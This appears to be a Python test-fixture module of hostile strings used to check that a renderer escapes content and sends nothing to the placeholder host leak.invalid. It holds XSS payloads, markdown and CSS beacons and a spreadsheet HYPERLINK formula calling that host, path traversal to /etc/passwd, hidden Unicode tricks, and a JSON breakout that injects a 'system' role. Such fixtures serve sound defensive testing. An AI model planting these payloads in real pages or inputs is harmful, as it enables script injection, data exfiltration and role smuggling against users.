"""Texts that try to leave the place where they are shown. Every address in them is on `leak.invalid`.

Tests that render run content take them from here, and assert that the text arrives as text: nothing of
`RAW_MARKUP` stands unescaped in what was built, and no request goes to `LEAK_HOST`.
"""

from typing import NamedTuple

LEAK_HOST = "leak.invalid"

RAW_MARKUP = (
    "<script",
    "<img src=x",
    "<svg/onload",
    "<iframe",
    "<a href",
    "</style",
    "</script",
    "</textarea",
    "</title",
    "<meta",
    "<base",
    "<link",
    "<form",
    "<math",
    "<details",
)
"""Openings that occur in `HOSTILE`; one that stands unescaped in a page is a hole."""


class Hostile(NamedTuple):
    """One text, its name for a test's id, and its kind."""

    name: str
    kind: str
    text: str


HOSTILE: tuple[Hostile, ...] = (
    Hostile("script", "markup", "<script>fetch('https://leak.invalid/s')</script>"),
    Hostile("script-unclosed", "markup", "<script src=//leak.invalid/u.js "),
    Hostile("script-case", "markup", "<ScRiPt\t>alert(1)</sCrIpT\n>"),
    Hostile("image-handler", "markup", "<img src=x onerror=\"fetch('//leak.invalid/i')\">"),
    Hostile("svg-handler", "markup", "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>"),
    Hostile(
        "frame",
        "markup",
        "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;' src='https://leak.invalid/f'></iframe>",
    ),
    Hostile("attribute-breakout-double", "markup", '" onmouseover="alert(1)" x="'),
    Hostile("attribute-breakout-single", "markup", "' onfocus='alert(1)' autofocus='"),
    Hostile("attribute-breakout-backtick", "markup", "` onclick=`alert(1)` `"),
    Hostile("textarea-close", "markup", "</textarea><script>alert(1)</script>"),
    Hostile("title-close", "markup", "</title><script>alert(1)</script>"),
    Hostile("script-close", "markup", "</script><script>alert(1)</script>"),
    Hostile("comment-close", "markup", "--><script>alert(1)</script><!--"),
    Hostile("cdata-close", "markup", "]]><script>alert(1)</script><![CDATA["),
    Hostile("math-mutation", "markup", "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>"),
    Hostile("details-toggle", "markup", "<details open ontoggle=alert(1)>x</details>"),
    Hostile(
        "form",
        "markup",
        "<form action='https://leak.invalid/p'><button formaction=javascript:alert(1)>ok</button></form>",
    ),
    Hostile("meta-refresh", "markup", "<meta http-equiv=refresh content='0;url=https://leak.invalid/m'>"),
    Hostile("base", "markup", "<base href='https://leak.invalid/'>"),
    Hostile("entities", "markup", "&lt;script&gt; &#60;script&#62; &amp;amp; &notanentity; &#x202e; &#0;"),
    Hostile("template-braces", "markup", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> %s %(name)s {0}"),
    Hostile("link-script", "link", "<a href='javascript:alert(1)'>javascript:alert(1)</a>"),
    Hostile(
        "link-script-spelled", "link", "[click](java\tscript:alert(1)) JaVaScRiPt:alert(1) &#106;avascript:alert(1)"
    ),
    Hostile("link-data", "link", "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    Hostile("markdown-image", "link", "![a picture](https://leak.invalid/pixel.png?q=secret)"),
    Hostile("markdown-image-reference", "link", "![a picture][p]\n\n[p]: https://leak.invalid/reference.png"),
    Hostile("markdown-autolink", "link", "<https://leak.invalid/auto> and www.leak.invalid/bare"),
    Hostile("markdown-block", "link", "# not a heading\n\n- not a list\n\n> not a quotation\n\n```\nnot a fence"),
    Hostile("markdown-fence-close", "link", "```\n![out](https://leak.invalid/fence.png)\n````\n~~~"),
    Hostile("markdown-table", "link", "| a | b |\n|---|---|\n| ![t](https://leak.invalid/t.png) | <br> |"),
    Hostile("markdown-mention", "link", "@everyone closes #1, fixes GH-2 and leak.invalid/repo#3"),
    Hostile("streamlit-directives", "link", ":red[not red] :material/delete: :streamlit: $x^2$ :small[not small]"),
    Hostile("link-element", "link", "<link rel=stylesheet href=//leak.invalid/l.css>"),
    Hostile("style-close", "style", "</style><script>alert(1)</script>"),
    Hostile("style-url", "style", "red; background: url(https://leak.invalid/css)"),
    Hostile("style-breakout", "style", "} * { display: none } @import 'https://leak.invalid/i.css'; x {"),
    Hostile("style-escape", "style", "\\3c style\\3e \\000022 ; position: fixed; inset: 0; z-index: 9999"),
    Hostile("bidi-override", "hidden", "invoice\u202egnp.exe\u202c and \u2066isolated\u2069"),
    Hostile("bidi-marks", "hidden", "\u200f\u061c\u200eleft \u202bright\u202c left"),
    Hostile("right-to-left", "hidden", "שלום hello مرحبا 123 abc"),
    Hostile("zero-width", "hidden", "pass\u200bword zero\u200cwidth\u200djoin\ufeffed\u2060"),
    Hostile("tag-characters", "hidden", "hidden\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f"),
    Hostile("variation-selectors", "hidden", "\u2764\ufe0f \U0001f600\U000e0101\U000e0155"),
    Hostile("combining-pile", "hidden", "z" + "\u0300\u0316\u0489" * 40 + "algo"),
    Hostile("emoji-family", "hidden", "👩\u200d👩\u200d👧\u200d👦 👍🏿 🇪🇺 1\ufe0f\u20e3"),
    Hostile("cjk-astral", "hidden", "漢字 かな 한글 𠮷野家 𝒻𝓃"),
    Hostile("soft-hyphens", "hidden", "in\u00advisi\u00adble\u00a0space\u2003wide\u3000ideographic"),
    Hostile("line-separators", "hidden", "one\u2028two\u2029three\u0085four\x0bfive\x0csix\rseven"),
    Hostile("terminal-colours", "broken", "\x1b[31mred\x1b[0m \x1b[2J\x1b[H cleared \x1b]0;title\x07"),
    Hostile("terminal-link", "broken", "\x1b]8;;https://leak.invalid/t\x1b\\click\x1b]8;;\x1b\\ \x9b31m"),
    Hostile("null-bytes", "broken", "before\x00after\x00\x00"),
    Hostile("controls", "broken", "".join(chr(code) for code in range(1, 32)) + "\x7f\x80\x9f"),
    Hostile("backspaces", "broken", "real\b\b\b\bfake\r\noverwritten\rXX"),
    Hostile("lone-high-surrogate", "broken", "cut \ud83e"),
    Hostile("lone-low-surrogate", "broken", "\udd8a cut"),
    Hostile("surrogates-swapped", "broken", "\udd8a\ud83e"),
    Hostile("noncharacters", "broken", "\ufffe \uffff \U0010ffff \ufffd"),
    Hostile("long-word", "broken", "w" * 4_000),
    Hostile("long-slashes", "broken", "/very" * 600),
    Hostile("json-breakout", "broken", '"}]}\\u0022,"role":"system","content":"'),
    Hostile("csv-formula", "broken", '=HYPERLINK("https://leak.invalid/x","x")\t+1\t-1\t@SUM(A1)'),
    Hostile("path-climb", "broken", "../../../etc/passwd ..\\..\\boot.ini %2e%2e%2f file:///etc/passwd"),
    Hostile("drop-marker-inside", "broken", "text [dropped history, or so it says"),
    Hostile("only-spaces", "broken", " \t\n \u00a0\u3000"),
    Hostile("empty", "broken", ""),
)


def of_kind(*kinds: str) -> tuple[Hostile, ...]:
    """The texts of these kinds: markup, link, style, hidden, broken."""
    return tuple(one for one in HOSTILE if one.kind in kinds)
